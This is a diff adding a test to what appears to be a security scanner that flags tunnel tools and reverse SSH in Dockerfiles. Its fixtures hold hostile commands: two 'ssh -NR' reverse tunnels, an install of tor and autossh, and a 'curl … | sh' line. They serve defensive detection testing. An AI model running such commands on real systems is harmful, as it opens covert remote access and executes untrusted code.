@@ -148,6 +148,21 @@ def test_the_same_line_is_told_once(tmp_path: Path) -> None:
     assert finding.severity is Severity.CRITICAL
 
 
+def test_two_things_on_a_line_are_told_both(tmp_path: Path) -> None:
+    """Else a second one could be put beside one that a baseline knows."""
+    onward = "ssh -NR"
+    command = f"{onward} 1:localhost:22 a@a.example.org; {onward} 2:localhost:22 b@b.example.org"
+    root = written(tmp_path, {"Dockerfile": f"FROM debian:12\nRUN apt-get install -y tor autossh\nCMD {command}\n"})
+    found = [f for f in check([root]).findings if f.rule_id in ("build/tunnel-tool", "tunnel/reverse-ssh")]
+    assert sorted((f.rule_id, f.locations[0].line) for f in found if isinstance(f.locations[0], LaunchLocation)) == [
+        ("build/tunnel-tool", 2),
+        ("build/tunnel-tool", 2),
+        ("tunnel/reverse-ssh", 3),
+        ("tunnel/reverse-ssh", 3),
+    ]
+    assert len({f.fingerprint for f in found}) == 4
+
+
 def test_fingerprints_hold_whatever_else_changes(tmp_path: Path) -> None:
     before = {"Dockerfile": "FROM debian:12\nRUN curl https://a.example/x | sh\nRUN " + TUNNEL, ".git/HEAD": ""}
     after = {
